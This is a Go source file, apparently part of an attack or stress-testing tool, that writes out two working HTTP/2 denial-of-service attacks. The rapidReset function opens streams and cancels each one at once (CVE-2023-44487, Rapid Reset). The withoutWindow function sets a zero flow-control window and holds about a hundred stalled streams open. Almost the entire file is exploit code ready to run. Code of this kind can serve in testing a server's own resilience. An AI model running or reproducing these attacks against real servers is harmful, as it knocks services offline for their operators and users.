package main

import (
	"bytes"
	"context"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// speak begins an HTTP/2 connection (RFC 9113 section 3.4) and reads what comes over it, until it ends.
func (a *attacker) speak(ctx context.Context, settings ...http2.Setting) (*http2.Framer, func(), error) {
	conn, end, err := a.connect(ctx, http2.NextProtoTLS)
	if err != nil {
		return nil, nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	framer := http2.NewFramer(conn, nil)
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = framer.WriteSettings(settings...)
	}
	if err != nil {
		end()
		return nil, nil, err
	}
	return framer, end, nil
}

// fields are the headers of a request for a path.
func fields(path string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: path},
	} {
		_ = encoder.WriteField(f) // a buffer takes everything
	}
	return block.Bytes()
}

// rapidReset asks a thousand times and takes each back at once (CVE-2023-44487).
func rapidReset(ctx context.Context, a *attacker) {
	framer, end, err := a.speak(ctx)
	if err != nil {
		return
	}
	defer end()
	for id := uint32(1); id < 2000; id += 2 {
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields("/hang"), EndStream: true, EndHeaders: true})
		if err == nil {
			err = framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			return
		}
	}
}

// withoutWindow asks for a hundred streams and lets none of them send an octet.
func withoutWindow(ctx context.Context, a *attacker) {
	framer, end, err := a.speak(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return
	}
	defer end()
	for id := uint32(1); id < 200; id += 2 {
		if err := framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: fields("/stream.jpg"), EndStream: true, EndHeaders: true,
		}); err != nil {
			return
		}
	}
	ctx, cancel := context.WithTimeout(ctx, endurance)
	defer cancel()
	<-ctx.Done()
}
